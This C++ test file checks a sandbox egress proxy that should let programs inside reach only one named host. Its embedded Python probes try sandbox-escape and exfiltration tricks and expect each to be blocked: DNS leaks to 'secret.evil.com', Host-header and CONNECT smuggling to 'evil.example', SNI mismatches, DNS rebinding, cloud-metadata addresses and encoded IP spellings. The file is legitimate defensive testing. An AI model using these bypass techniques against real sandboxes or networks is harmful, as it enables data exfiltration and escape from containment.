// Ways out of a sandbox that may reach one host by name, judged by what arrives
// outside. The programs inside are those of the host.

#include <dirent.h>
#include <signal.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "sandbox/storage/network_log.h"
#include "tests/attack/attack_test.h"
#include "tests/network/name_server.h"
#include "tests/network/upstream_server.h"

namespace tests {
namespace {

using ::corral::egress::v1::Event;
using ::corral::egress::v1::Rule;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

constexpr absl::string_view kAnswer =
    "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nwelcome\n";

void Welcome(int socket) {
  ReadUntil(socket, "\r\n\r\n");
  SendAll(socket, kAnswer);
}

class EgressAttackTest : public AttackTest {
 protected:
  EgressAttackTest() {
    auto* const egress = spec().mutable_egress();
    egress->add_name_servers(names_.address());
    egress->mutable_policy()->add_private_networks("127.0.0.1");
    names_.Set("api.example", {"127.0.0.1"});
    Allow("api.example", server_.port(), Rule::WEB);
  }

  void Allow(const std::string& host, uint16_t port, Rule::Protocol protocol) {
    Rule* const rule = spec().mutable_egress()->mutable_policy()->add_rules();
    rule->set_host(host);
    rule->add_ports(port);
    rule->set_protocol(protocol);
  }

  // Runs a program in Python, whose variable `port` is that of the server, and
  // returns what it printed. attempt(f) prints how the call of f ends.
  std::string Python(const std::string& program) {
    const std::string prelude = absl::StrCat(
        "import errno, socket, sys\n"
        "port = ",
        server_.port(),
        "\n"
        "host_port = ",
        other_.port(),
        "\n"
        "def attempt(f):\n"
        "    try:\n"
        "        print(f())\n"
        "    except socket.gaierror as e:\n"
        "        print('no such name')\n"
        "    except socket.timeout as e:\n"
        "        print('timeout')\n"
        "    except OSError as e:\n"
        "        print(errno.errorcode.get(e.errno, e))\n"
        "def dial(host, port, family=socket.AF_INET):\n"
        "    s = socket.socket(family, socket.SOCK_STREAM)\n"
        "    s.settimeout(20)\n"
        "    s.connect((host, port))\n"
        "    return s\n"
        "def say(host, port, text):\n"
        "    s = dial(host, port)\n"
        "    s.sendall(text.encode())\n"
        "    return s.recv(100)\n"
        "def datagram(host, port, family=socket.AF_INET):\n"
        "    s = socket.socket(family, socket.SOCK_DGRAM)\n"
        "    s.settimeout(20)\n"
        "    s.connect((host, port))\n"
        "    s.send(b'x' * 40)\n"
        "    return s.recv(100)\n");
    std::ofstream(sandbox_.workspace() + "/program.py") << prelude << program;
    return Shell("/usr/bin/python3 program.py");
  }

  std::vector<std::string> Refusals() {
    std::vector<std::string> refusals;
    const auto events = sandbox::ReadNetworkLog(sandbox_.directory(), 0, 1000);
    EXPECT_TRUE(events.ok());
    for (const Event& event : *events) {
      refusals.push_back(
          absl::StrCat(Event::Reason_Name(event.reason()), " ", event.host()));
    }
    return refusals;
  }

  NameServer names_;
  UpstreamServer server_{Welcome};
  // Listens where nothing inside may connect to.
  UpstreamServer other_{Welcome, "127.0.0.2"};
};

// The proxies of this process's supervisors.
std::vector<pid_t> Proxies() {
  std::vector<pid_t> pids;
  DIR* const proc = ::opendir("/proc");
  while (const dirent* entry = ::readdir(proc)) {
    pid_t pid;
    std::string name;
    std::ifstream(absl::StrCat("/proc/", entry->d_name, "/comm")) >> name;
    if (name == "corral-egress" && absl::SimpleAtoi(entry->d_name, &pid)) {
      pids.push_back(pid);
    }
  }
  ::closedir(proc);
  return pids;
}

TEST_F(EgressAttackTest, ReachesTheNamedHostWithoutProxySettings) {
  if (::access("/usr/bin/curl", X_OK) != 0) {
    GTEST_SKIP() << "curl is not installed";
  }
  Create();
  const std::string url =
      absl::StrCat("http://api.example:", server_.port(), "/");
  EXPECT_EQ(Shell("env | grep -ic proxy"), "0\n");
  EXPECT_EQ(Shell("curl -s " + url), "welcome\n");
  EXPECT_EQ(Shell("getent hosts api.example | grep -c '^198.18\\|^fdc0'"),
            "1\n");
}

TEST_F(EgressAttackTest, ReachesNothingByAddress) {
  Create();
  EXPECT_EQ(Python("for host in ('8.8.8.8', '10.0.0.1', '169.254.169.254',\n"
                   "             '192.168.1.1', '224.0.0.1'):\n"
                   "    attempt(lambda: dial(host, 443))\n"
                   "    attempt(lambda: datagram(host, 53))\n"
                   "for host in ('2001:db8::1', 'fd00:1::1', 'fd00:ec2::254',\n"
                   "             '::ffff:8.8.8.8', '64:ff9b::7f00:1'):\n"
                   "    attempt(lambda: dial(host, 443, socket.AF_INET6))\n"),
            "ENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\n"
            "ENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\n"
            "ENETUNREACH\nENETUNREACH\nENETUNREACH\nENETUNREACH\n"
            "ENETUNREACH\n");
}

TEST_F(EgressAttackTest, ReachesNoServiceOfTheHost) {
  Create();
  EXPECT_EQ(Python("for host in ('127.0.0.1', '127.0.0.2', '198.18.0.1',\n"
                   "             '198.18.0.0', '198.19.255.255'):\n"
                   "    attempt(lambda: dial(host, host_port))\n"),
            "ECONNREFUSED\nECONNREFUSED\nECONNREFUSED\nECONNREFUSED\n"
            "ECONNREFUSED\n");
  // The proxy's own port, with addresses of no name.
  EXPECT_EQ(Python("for host in ('127.0.0.1', '198.18.0.99', '127.0.0.53'):\n"
                   "    attempt(lambda: say(host, port, 'GET / HTTP/1.1\\r\\n"
                   "Host: api.example\\r\\n\\r\\n'))\n"),
            "ECONNRESET\nECONNRESET\nECONNRESET\n");
  EXPECT_EQ(other_.connections(), 0);
  EXPECT_EQ(server_.connections(), 0);
  EXPECT_THAT(Refusals(), Contains("UNKNOWN_ADDRESS 198.18.0.99"));
}

TEST_F(EgressAttackTest, MakesNoRawSocketsAndRefusesDatagrams) {
  Create();
  EXPECT_EQ(Python("attempt(lambda: socket.socket(socket.AF_INET, "
                   "socket.SOCK_RAW, 1))\n"
                   "attempt(lambda: socket.socket(socket.AF_PACKET, "
                   "socket.SOCK_RAW, 0))\n"
                   "address = socket.gethostbyname('api.example')\n"
                   "attempt(lambda: datagram(address, port))\n"
                   "attempt(lambda: datagram(address, 443))\n"),
            "EPERM\nEPERM\nECONNREFUSED\nECONNREFUSED\n");
}

TEST_F(EgressAttackTest, LeaksNothingByDns) {
  Allow("*.wild.example", 443, Rule::WEB);
  Create();
  EXPECT_EQ(
      Python("for name in ('secret.evil.com', 'api.example.evil.com',\n"
             "             'xn--api-.example', 'example', 'localhost4'):\n"
             "    attempt(lambda: socket.gethostbyname(name))\n"
             "socket.gethostbyname('secret.wild.example')\n"),
      "no such name\nno such name\nno such name\nno such name\n"
      "no such name\n");
  EXPECT_THAT(names_.Questions(), IsEmpty());
  EXPECT_THAT(Refusals(), Contains("NAME_NOT_ALLOWED secret.evil.com"));
}

TEST_F(EgressAttackTest, SpeaksToNoOtherHostThanTheOneItDialled) {
  Create();
  EXPECT_EQ(
      Python(
          "for text in ('GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n',\n"
          "    'GET / HTTP/1.1\\r\\n\\r\\n',\n"
          "    'GET http://evil.example/ HTTP/1.1\\r\\nHost: api.example"
          "\\r\\n\\r\\n',\n"
          "    'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: api.example"
          "\\r\\n\\r\\n',\n"
          "    'CONNECT api.example:443 HTTP/1.1\\r\\nHost: api.example"
          "\\r\\n\\r\\n',\n"
          "    'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n',\n"
          "    '\\x05\\x01\\x00', 'SSH-2.0-x\\r\\n'):\n"
          "    attempt(lambda: say('api.example', port, text))\n"),
      "ECONNRESET\nECONNRESET\nECONNRESET\nECONNRESET\nECONNRESET\n"
      "ECONNRESET\nECONNRESET\nECONNRESET\n");
  // A client of TLS names another host, or none.
  EXPECT_EQ(
      Python("import ssl\n"
             "context = ssl._create_unverified_context()\n"
             "for name in ('evil.example', None):\n"
             "    attempt(lambda: context.wrap_socket(\n"
             "        dial('api.example', port), server_hostname=name))\n"),
      "ECONNRESET\nECONNRESET\n");
  EXPECT_EQ(server_.connections(), 0);
  EXPECT_THAT(Refusals(), Contains("SERVER_NAME_DIFFERS api.example"));
  EXPECT_THAT(Refusals(), Contains("NO_SERVER_NAME api.example"));
}

TEST_F(EgressAttackTest, ReachesNoPrivateAddressByRebinding) {
  Allow("rebind.example", other_.port(), Rule::TCP);
  names_.Set("rebind.example", {"127.0.0.2"});
  Create();
  const std::string program =
      "attempt(lambda: say('rebind.example', host_port, 'x'))\n";
  for (const char* address :
       {"127.0.0.2", "169.254.169.254", "::ffff:127.0.0.2", "0.0.0.0"}) {
    names_.Set("rebind.example", {address});
    EXPECT_EQ(Python(program), "ECONNRESET\n") << address;
  }
  EXPECT_EQ(other_.connections(), 0);
  EXPECT_THAT(Refusals(), Contains("ADDRESS_NOT_ALLOWED rebind.example"));
}

TEST_F(EgressAttackTest, TakesNoSpellingOfAnAddressForTheHost) {
  Create();
  EXPECT_EQ(
      Python("names = ('2130706434', '0x7f000002', '0177.0.0.2', '127.2',\n"
             "         '127.0.0.2', '[::ffff:127.0.0.2]')\n"
             "for name in names:\n"
             "    attempt(lambda: say('api.example', port, 'GET / HTTP/1.1"
             "\\r\\nHost: %s\\r\\n\\r\\n' % name))\n"
             "import ssl\n"
             "context = ssl._create_unverified_context()\n"
             "for name in names[:4]:\n"
             "    attempt(lambda: context.wrap_socket(\n"
             "        dial('api.example', port), server_hostname=name))\n"
             "for name in names[:5]:\n"
             "    attempt(lambda: dial(name, host_port))\n"),
      "ECONNRESET\nECONNRESET\nECONNRESET\nECONNRESET\nECONNRESET\n"
      "ECONNRESET\nECONNRESET\nECONNRESET\nECONNRESET\nECONNRESET\n"
      "ECONNREFUSED\nECONNREFUSED\nECONNREFUSED\nECONNREFUSED\n"
      "ECONNREFUSED\n");
  EXPECT_EQ(server_.connections(), 0);
  EXPECT_EQ(other_.connections(), 0);
}

TEST_F(EgressAttackTest, RefusesAnOldClientHelloWithoutAName) {
  Create();
  EXPECT_EQ(
      Python("body = b'\\x03\\x01' + b'r' * 32 + b'\\0\\0\\2\\0\\x2f\\1\\0'\n"
             "hello = b'\\1\\0' + len(body).to_bytes(2, 'big') + body\n"
             "record = (b'\\x16\\3\\1' + len(hello).to_bytes(2, 'big')\n"
             "          + hello)\n"
             "attempt(lambda: say('api.example', port,\n"
             "                    record.decode('latin1')))\n"),
      "ECONNRESET\n");
  EXPECT_EQ(server_.connections(), 0);
  EXPECT_THAT(Refusals(), Contains("NO_SERVER_NAME api.example"));
}

TEST_F(EgressAttackTest, ReachesNoneOfAThousandPrivateAddresses) {
  Allow("many.example", other_.port(), Rule::TCP);
  names_.Set("many.example", std::vector<std::string>(1000, "127.0.0.2"));
  Create();
  EXPECT_EQ(Python("attempt(lambda: say('many.example', host_port, 'x'))\n"),
            "ECONNRESET\n");
  EXPECT_EQ(other_.connections(), 0);
}

TEST_F(EgressAttackTest, AnswersOthersAfterAFloodOfOddQuestions) {
  Create();
  EXPECT_EQ(
      Python("server = [line.split()[1] for line in open('/etc/resolv.conf')\n"
             "          if line.startswith('nameserver')][0]\n"
             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
             "head = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'\n"
             "tail = b'\\0\\0\\1\\0\\1'\n"
             "for i in range(10000):\n"
             "    name = b'\\x05%05d\\4evil' % i\n"
             "    s.sendto(head + name + tail, (server, 53))\n"
             "for loop in (b'\\xc0\\x0c', b'\\1a\\xc0\\x0c', b'\\xc0\\xff'):\n"
             "    s.sendto(head + loop + tail[1:], (server, 53))\n"
             "print(socket.gethostbyname('api.example')[:7])\n"),
      "198.18.\n");
  EXPECT_THAT(names_.Questions(), IsEmpty());
}

TEST_F(EgressAttackTest, ReachesNothingWithoutRules) {
  spec().mutable_egress()->mutable_policy()->clear_rules();
  Create();
  EXPECT_EQ(Python("attempt(lambda: socket.gethostbyname('api.example'))\n"
                   "attempt(lambda: dial('198.18.0.1', port))\n"),
            "no such name\nECONNREFUSED\n");
  EXPECT_THAT(Refusals(), Contains("NAME_NOT_ALLOWED api.example"));
}

TEST_F(EgressAttackTest, CannotUndoTheWayOut) {
  Create();
  EXPECT_THAT(Shell("echo nameserver 8.8.8.8 > /etc/resolv.conf"),
              HasSubstr("Read-only file system"));
  EXPECT_THAT(Shell("ip route add default dev lo"),
              HasSubstr("Operation not permitted"));
  EXPECT_THAT(Shell("ip addr add 10.0.0.1/8 dev lo"),
              HasSubstr("Operation not permitted"));
  // Nobody inside sees the process, nor takes its place.
  EXPECT_EQ(Shell("cat /proc/[0-9]*/comm | grep -c egress"), "0\n");
  EXPECT_EQ(Python("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                   "attempt(lambda: s.bind(('127.0.0.53', 53)))\n"
                   "t = socket.socket()\n"
                   "attempt(lambda: t.bind(('198.18.0.1', port)))\n"),
            "EACCES\nEADDRINUSE\n");
}

TEST_F(EgressAttackTest, WorksAgainAfterTheProxyWasKilled) {
  if (::access("/usr/bin/curl", X_OK) != 0) {
    GTEST_SKIP() << "curl is not installed";
  }
  const std::vector<pid_t> before = Proxies();
  Create();
  const std::string command = absl::StrCat(
      "curl -s --retry 20 --retry-all-errors --retry-delay 1 "
      "http://api.example:",
      server_.port(), "/");
  EXPECT_EQ(Shell(command), "welcome\n");
  for (const pid_t pid : Proxies()) {
    if (std::find(before.begin(), before.end(), pid) == before.end()) {
      EXPECT_EQ(::kill(pid, SIGKILL), 0);
    }
  }
  EXPECT_EQ(Shell(command), "welcome\n");
}

TEST_F(EgressAttackTest, ClonesWithGitThroughTheWayOut) {
  if (::access("/usr/bin/git", X_OK) != 0) {
    GTEST_SKIP() << "git is not installed";
  }
  // A server of files, for a repository that git can fetch without a program.
  const std::string root = sandbox_.workspace() + "/served";
  ASSERT_EQ(
      ::system(absl::StrCat("cd ", sandbox_.workspace(),
                            " && git init -q source && cd source"
                            " && git -c user.name=a -c user.email=a@b commit -q"
                            " --allow-empty -m 'A commit of the test'"
                            " && git clone -q --bare . ",
                            root, "/repository.git && cd ", root,
                            "/repository.git && git update-server-info")
                   .c_str()),
      0);
  UpstreamServer files([&](int socket) {
    const std::string head = ReadUntil(socket, "\r\n\r\n");
    std::string path = head.substr(4, head.find(" HTTP/") - 4);
    path = path.substr(0, path.find('?'));
    std::ifstream file(root + path, std::ios::binary);
    const std::string content((std::istreambuf_iterator<char>(file)),
                              std::istreambuf_iterator<char>());
    SendAll(socket, absl::StrCat(file.is_open() ? "HTTP/1.1 200 OK"
                                                : "HTTP/1.1 404 Not Found",
                                 "\r\nContent-Length: ", content.size(),
                                 "\r\nConnection: close\r\n\r\n", content));
  });
  Allow("git.example", files.port(), Rule::WEB);
  names_.Set("git.example", {"127.0.0.1"});
  Create();
  EXPECT_EQ(Shell(absl::StrCat(
                "cd /tmp && git clone -q http://git.example:", files.port(),
                "/repository.git && cd repository && git log "
                "--format=%s")),
            "A commit of the test\n");
}

}  // namespace
}  // namespace tests
